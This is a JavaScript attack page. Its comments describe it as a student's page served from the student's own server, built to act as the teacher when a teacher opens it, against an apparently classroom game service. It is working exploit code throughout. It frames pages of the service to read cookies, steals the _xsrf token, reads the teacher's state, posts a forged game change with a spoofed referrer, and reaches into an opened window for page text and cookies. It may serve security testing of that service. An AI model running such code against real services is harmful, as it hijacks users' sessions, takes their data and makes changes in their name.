// A student's page, served by the student's own server, that tries to act as the teacher
// when the teacher opens it. The service's address is after the '#'.
"use strict";
(async () => {
  const svc = decodeURIComponent(location.hash.slice(1));
  const out = { myCookies: document.cookie };
  const xsrfOf = (text) => ((text || "").match(/(?:^|;\s*)_xsrf=([^;]*)/) || [])[1] || "";
  let xsrf = xsrfOf(document.cookie);

  // 0. Frame a static file and a 404 of the service: documents of the service's origin
  // that are not the teacher's page, whose cookies (its _xsrf) the framing page could read.
  const framed = async (path) => {
    const f = document.createElement("iframe");
    f.src = svc + path;
    document.body.append(f);
    await new Promise((done) => { f.onload = done; setTimeout(done, 8000); });
    try {
      const doc = f.contentDocument;
      if (!doc || !doc.body || doc.location.href === "about:blank") return null;
      xsrf = xsrfOf(doc.cookie) || xsrf;
      return { text: doc.body.innerText.slice(0, 100), cookies: doc.cookie };
    } catch (err) { return { error: String(err) }; }
  };
  out.staticFrame = await framed("static/class.css");
  out.notFoundFrame = await framed("no-such-page");

  // 1. Frame the teacher's page and read it (students, results, its _xsrf cookie).
  const frame = document.createElement("iframe");
  frame.src = svc + "teacher";
  document.body.append(frame);
  await new Promise((done) => { frame.onload = done; setTimeout(done, 8000); });
  try {
    const doc = frame.contentDocument;
    out.frameRead = doc ? doc.body.innerText.slice(0, 300) : null;
    if (doc) { out.frameCookies = doc.cookie; xsrf = xsrfOf(doc.cookie) || xsrf; }
  } catch (err) { out.frameError = String(err); }

  // 2. Fetch the teacher's page and take the _xsrf of its Sign out form.
  try {
    const res = await fetch(svc + "teacher", { credentials: "include" });
    const text = await res.text();
    out.pageStatus = res.status;
    const field = text.match(/name="_xsrf" value="([^"]+)"/);
    if (field) { out.pageXsrf = true; xsrf = xsrf || field[1]; }
  } catch (err) { out.pageError = String(err); }

  // 3. Read the teacher's state, and 4. change the class game, saying it comes from the
  // teacher's page (a same-origin script may set the Referer so).
  const headers = (extra) => (xsrf ? { ...extra, "X-XSRFToken": xsrf } : extra);
  try {
    const res = await fetch(svc + "api/teacher/state", {
      credentials: "include", headers: headers({}), referrer: svc + "teacher" });
    out.stateStatus = res.status;
    out.stateText = (await res.text()).slice(0, 300);
  } catch (err) { out.stateError = String(err); }
  try {
    const res = await fetch(svc + "api/teacher/game", {
      method: "POST", credentials: "include", referrer: svc + "teacher",
      headers: headers({ "Content-Type": "application/json" }),
      body: JSON.stringify({ code: "0000-0666", opponents: ["random", "random", "random"] }) });
    out.gameStatus = res.status;
  } catch (err) { out.gameError = String(err); }

  // 5. Open the teacher's page in a window and reach into it.
  try {
    const win = window.open(svc + "teacher", "_blank");
    await new Promise((done) => setTimeout(done, 4000));
    out.windowRead = win && !win.closed ? win.document.body.innerText.slice(0, 300) : null;
    if (win && !win.closed) out.windowCookies = win.document.cookie;
  } catch (err) { out.windowError = String(err); }

  out.xsrfFound = Boolean(xsrf);
  document.body.dataset.result = JSON.stringify(out);
  document.title = "attack done";
})();
